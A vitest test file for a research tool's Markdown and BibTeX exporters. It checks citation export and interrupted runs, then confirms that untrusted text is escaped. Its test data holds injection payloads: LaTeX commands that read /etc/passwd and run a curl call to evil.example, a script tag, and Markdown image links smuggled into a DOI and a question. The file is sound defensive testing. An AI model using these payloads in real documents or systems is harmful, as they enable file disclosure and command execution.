import { describe, expect, it } from "vitest";
import { exportBibtex, exportMarkdown } from "./export";
import { INTERRUPTED_ERROR } from "./recovery";
import { formatReferences } from "./references";
import { summarySearchStep } from "./steps/search-summaries";
import type { Reference, ResearchRunState } from "./types";

const base: ResearchRunState = {
  runId: "run1",
  question: "Why is attention scaled?",
  mode: "offline",
  model: "extractive",
  status: "completed",
  startedAt: "2026-11-26T06:00:00.000Z",
  durationMs: 10,
  steps: [],
  answer: "## Answer\n\nBecause the dot products grow large [1706.03762v5, page 4].",
  citations: [],
  references: [],
  warnings: [],
};

const searched = {
  ...summarySearchStep.card(),
  status: "completed" as const,
  sources: [
    {
      id: "1706.03762v5",
      type: "paper" as const,
      title: "Attention Is All You Need",
      paperId: "1706.03762v5",
      page: 4,
      excerpt: "We suspect that for large values of d_k, the dot products grow large in magnitude.",
      similarity: 0.9,
    },
  ],
};

describe("exportMarkdown", () => {
  it("exports an answer with its citations intact", () => {
    const md = exportMarkdown(base);
    expect(md).toMatch(/^# Why is attention scaled\?\n\n## Answer/);
    expect(md).toContain("[1706.03762v5, page 4]");
  });

  it("exports what an interrupted run found when it has no answer, and nothing when it found nothing", () => {
    const run = { ...base, status: "interrupted" as const, answer: "", error: INTERRUPTED_ERROR, steps: [searched] };
    const md = exportMarkdown(run);
    expect(md).toContain("The server stopped before this run wrote its answer.");
    expect(md).toContain("- Attention Is All You Need [1706.03762v5, page 4]: “We suspect");
    expect(exportMarkdown({ ...run, steps: [summarySearchStep.card()] })).toBeNull();
    // a run still going has nothing to export yet
    expect(exportMarkdown({ ...run, status: "running" })).toBeNull();
  });
});

describe("exports of untrusted text", () => {
  const ref: Reference = {
    number: 1,
    paperId: "2403.05555v1",
    title: "Tides \\input{/etc/passwd} \\immediate\\write18{curl evil.example} <script>x</script> 50% {a} ~^",
    authors: ["Ada } Lovelace"],
    published: "2024",
    doi: "10.1000/x)![b](http://127.0.0.1:9/b.gif",
    arxivId: "2403.05555v1",
  };

  it("BibTeX: LaTeX commands, braces and angle brackets in a title are text, not commands or tags", () => {
    const bib = exportBibtex([ref]);
    expect(bib).toContain(
      "title = {Tides \\textbackslash{}input\\{/etc/passwd\\} \\textbackslash{}immediate\\textbackslash{}write18\\{curl evil.example\\} " +
        "\\textless{}script\\textgreater{}x\\textless{}/script\\textgreater{} 50\\% \\{a\\} \\textasciitilde{}\\textasciicircum{}}",
    );
    expect(bib).toContain("author = {Ada \\} Lovelace}");
    expect(bib).not.toMatch(/[^\\]\\(input|immediate|write18)/);
    expect(bib).not.toContain("<");
  });

  it("Markdown: a model's HTML and images are text; the question is escaped", () => {
    const run = {
      ...base,
      question: "Why ![q](http://127.0.0.1:9/q.gif)?",
      answer:
        '## Answer\n\nTides <img src="http://127.0.0.1:9/a.gif"> ![x](http://127.0.0.1:9/b.gif) [1706.03762v5, page 4].',
    };
    expect(exportMarkdown(run)).toBe(
      '# Why \\!\\[q\\](http://127.0.0.1:9/q.gif)?\n\n## Answer\n\nTides &lt;img src="http://127.0.0.1:9/a.gif"> ' +
        "!\\[x](http://127.0.0.1:9/b.gif) [1706.03762v5, page 4].\n\n---\n_Lectern research run run1, 2026-11-26. " +
        "Citations are [paper id, page]._\n",
    );
  });

  it("References: the title is text and a DOI cannot close its link early", () => {
    const md = formatReferences([ref]);
    expect(md).toContain("[doi:10.1000/x)\\!\\[b\\](http://127.0.0.1:9/b.gif](https://doi.org/10.1000/x%29!%5Bb%5D");
    expect(md).toContain("\\<script\\>x\\</script\\>");
  });
});
